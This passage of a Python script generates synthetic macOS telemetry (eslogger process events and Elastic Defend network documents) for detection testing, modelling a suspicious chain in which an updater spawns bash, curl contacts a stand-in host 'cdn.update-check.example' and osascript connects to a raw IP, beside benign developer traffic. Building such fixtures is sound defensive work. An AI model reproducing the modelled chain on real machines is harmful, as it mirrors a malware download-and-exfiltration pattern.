    log.fork(at("09:18:40.215530981"), terminal, fork_2131)
    login = replace(fork_2131.execs(LOGIN, self_responsible=False, responsible=terminal), cred=ALICE_LOGIN, tty=tty)
    log.exec(at("09:18:40.218804412"), replace(fork_2131, tty=tty), login, ["login", "-pf", "alice"],
             env=TERMINAL_ENV, cwd=USER_HOME, cwd_inode=HOME_DIR, fds=tty_fds)
    fork_2132 = login.forked(2132, 43_612, at("09:18:40.234408210"), group_id=2132)
    log.fork(at("09:18:40.234408210"), login, fork_2132)
    zsh_env = [*TERMINAL_ENV, f"HOME={USER_HOME}", "LOGNAME=alice"]
    zsh = fork_2132.execs(ZSH, cred=ALICE_TTY, responsible=terminal)
    log.exec(at("09:18:40.236671045"), fork_2132, zsh, ["-zsh"], env=zsh_env, cwd=USER_HOME, cwd_inode=HOME_DIR,
             fds=tty_fds)
    fork_2140 = zsh.forked(2140, 43_630, at("09:18:52.104377519"), group_id=2140)
    log.fork(at("09:18:52.104377519"), zsh, fork_2140)
    dev_curl = fork_2140.execs(CURL, responsible=terminal)
    log.exec(at("09:18:52.106920338"), fork_2140, dev_curl, DEV_CURL_ARGS,
             env=[*zsh_env, "SHLVL=1", f"PWD={USER_HOME}/src", f"OLDPWD={USER_HOME}", "_=/usr/bin/curl"],
             cwd=f"{USER_HOME}/src", cwd_inode=SRC_DIR, fds=tty_fds)
    log.exit(at("09:18:52.712054407"), dev_curl)
    return log.lines


# -- Elastic Defend (ECS) network documents ---------------------------------------------------------------------

AGENT_ID = "7a3f2c91-5b6e-4d08-9c1a-e2f4b6d8a0c3"
ECS_HOST = {
    "architecture": "arm64", "hostname": "mac-01", "id": "C1F8A0D2-6B3E-5F47-9A21-8D0E4C7B9F13",
    "ip": ["127.0.0.1", "::1", "192.168.1.23", "fe80::1"], "mac": ["3c-22-fb-91-0a-7e"], "name": "mac-01",
    "os": {"Ext": {"variant": "macOS"}, "family": "macos", "full": "macOS 15.6", "kernel": "24.6.0",
           "name": "macOS", "platform": "macos", "type": "macos", "version": "15.6"},
}


def entity_id(pid: int, start_ns: int) -> str:
    """An Elastic Endpoint ``entity_id``: base64 of ``<agent.id>-<pid>-<seconds since 1601>.<ns>``."""
    seconds, nanos = divmod(start_ns, NS)
    return base64.b64encode(f"{AGENT_ID}-{pid}-{seconds + EPOCH_1601_OFFSET_S}.{nanos}".encode()).decode()


def ecs_network(stamp: str, event_id: str, sequence: int, action: str, *, pid: int, images: list[tuple[int, int]],
                signing_id: str, args: list[str], executable: str, destination: dict[str, Any], source_port: int,
                direction: str | None, extra: dict[str, Any] | None = None) -> dict[str, Any]:
    """One ``endpoint.events.network`` document shaped like the Elastic Defend macOS documentation's.

    ``images`` is the process's own image first, then ``Ext.ancestry`` (nearest first): ``(pid, start ns)``.
    """
    ancestry = [entity_id(p, start) for p, start in images[1:]]
    network: dict[str, Any] = {"transport": "tcp", "type": "ipv4"}
    if direction is not None:
        network = {"direction": direction, **network}
    doc: dict[str, Any] = {
        "@timestamp": stamp,
        "agent": {"id": AGENT_ID, "type": "endpoint", "version": "8.15.2"},
        "data_stream": {"dataset": "endpoint.events.network", "namespace": "default", "type": "logs"},
        "ecs": {"version": "8.11.0"},
        "elastic": {"agent": {"id": AGENT_ID}},
        "event": {"action": action, "category": ["network"], "created": stamp, "dataset": "endpoint.events.network",
                  "id": event_id, "kind": "event", "module": "endpoint", "outcome": "unknown", "sequence": sequence,
                  "type": ["start" if action == "connection_attempted" else "end"]},
        "group": {"Ext": {"real": {"id": 20, "name": "staff"}}, "id": 20, "name": "staff"},
        "host": ECS_HOST,
        "message": "Endpoint network event",
        "user": {"Ext": {"real": {"id": 501, "name": "alice"}}, "id": 501, "name": "alice"},
        "destination": destination,
        "source": {"address": "192.168.1.23", "ip": "192.168.1.23", "port": source_port, **(extra or {})},
        "network": network,
        "process": {
            "Ext": {"ancestry": ancestry},
            "code_signature": {"exists": True, "signing_id": signing_id, "status": "trusted",
                               "subject_name": "Software Signing", "trusted": True},
            "command_line": " ".join(args),
            "entity_id": entity_id(pid, images[0][1]),
            "executable": executable,
            "name": executable.rsplit("/", 1)[-1],
            "parent": {"entity_id": ancestry[0]},
            "pid": pid,
        },
    }
    return doc


def ecs_chain_documents() -> list[dict[str, Any]]:
    """osascript's and curl's connections, and curl's disconnect.

    The file keeps the order it always had (osascript first) although curl connected first: exports are not
    sorted by event time, and ``event.sequence`` still tells the agent's order.
    """
    boot = BOOT_NS
    # Every exec is a new Elastic entity; (pid, image start) from the nearest image outwards.
    updater_images = [(1377, at("09:16:57.699402218")), (1377, at("09:16:57.690874431")),
                      (1377, at("09:16:57.690118204")), (1, boot)]
    bash_images = [(1380, at("09:16:58.916802541")), (1380, at("09:16:58.915133020")),
                   (1380, at("09:16:58.912407655")), *updater_images]
    osascript_images = [(1382, at("09:16:59.645908716")), (1382, at("09:16:59.643187302")), *bash_images]
    curl_images = [(1381, at("09:16:58.922716093")), (1381, at("09:16:58.920311874")), *bash_images]
    raw_ip = {"address": "185.199.108.133", "ip": "185.199.108.133", "port": 443}
    by_name = {"address": "198.51.100.77", "domain": "cdn.update-check.example", "ip": "198.51.100.77", "port": 443}
    return [
        ecs_network("2026-03-02T09:17:18.207311416Z", "NdxB2r1aKq4Tq0ZH++++/Fv1", 918_467, "connection_attempted",
                    pid=1382, images=osascript_images, signing_id="com.apple.osascript", args=OSASCRIPT_ARGS,
                    executable="/usr/bin/osascript", destination=raw_ip, source_port=51_544, direction=None),
        ecs_network("2026-03-02T09:16:59.101734Z", "NdxB2r1aKq4Tq0ZH++++/Fvx", 918_233, "connection_attempted",
                    pid=1381, images=curl_images, signing_id="com.apple.curl", args=CURL_ARGS,
                    executable="/usr/bin/curl", destination=by_name, source_port=51_551, direction="egress"),
        ecs_network("2026-03-02T09:16:59.517902Z", "NdxB2r1aKq4Tq0ZH++++/Fw4", 918_301, "disconnect_received",
                    pid=1381, images=curl_images, signing_id="com.apple.curl", args=CURL_ARGS,
                    executable="/usr/bin/curl", destination={**by_name, "bytes": 86_736}, source_port=51_551,
                    direction="egress", extra={"bytes": 1_187}),
    ]


def ecs_noise_documents() -> list[dict[str, Any]]:
    """The developer's Terminal curl: egress that belongs to no chain."""
    boot = BOOT_NS
    terminal_images = [(640, at("08:02:13.561204")), (640, at("08:02:13.551437")), (640, at("08:02:13.550871")),
                       (1, boot)]
    zsh_images = [(2132, at("09:18:40.236671045")), (2132, at("09:18:40.234408210")),
                  (2131, at("09:18:40.218804412")), (2131, at("09:18:40.215530981")), *terminal_images]
    curl_images = [(2140, at("09:18:52.106920338")), (2140, at("09:18:52.104377519")), *zsh_images]
    github = {"address": "140.82.121.6", "domain": "api.github.com", "ip": "140.82.121.6", "port": 443}
    return [
        ecs_network("2026-03-02T09:18:52.301448Z", "NdxB2r1aKq4Tq0ZH++++/G2k", 918_771, "connection_attempted",
                    pid=2140, images=curl_images, signing_id="com.apple.curl", args=DEV_CURL_ARGS,
                    executable="/usr/bin/curl", destination=github, source_port=51_602, direction="egress"),
    ]


def _ndjson(docs: list[dict[str, Any]]) -> bytes:
    return b"".join(orjson.dumps(doc) + b"\n" for doc in docs)


def outputs() -> dict[Path, bytes]:
    """Every generated file and its exact bytes."""
    return {
        ESLOGGER_OUT: b"".join(line + b"\n" for line in eslogger_lines()),
        ECS_CHAIN_OUT: _ndjson(ecs_chain_documents()),
        ECS_NOISE_OUT: _ndjson(ecs_noise_documents()),
    }


def main(argv: list[str] | None = None) -> int:
    """Write the samples (or, with ``--check``, report the ones that differ and exit 1)."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--check", action="store_true", help="verify the files are up to date; write nothing")
    args = parser.parse_args(argv)
    stale = []
    for path, data in outputs().items():
        if args.check:
            if not path.is_file() or path.read_bytes() != data:
                stale.append(path)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        lines = data.count(b"\n")
        print(f"wrote {path.relative_to(ROOT)} ({lines} lines)")
    for path in stale:
        print(f"out of date: {path.relative_to(ROOT)} (run scripts/make_samples.py)", file=sys.stderr)
    return 1 if stale else 0


if __name__ == "__main__":
    sys.exit(main())
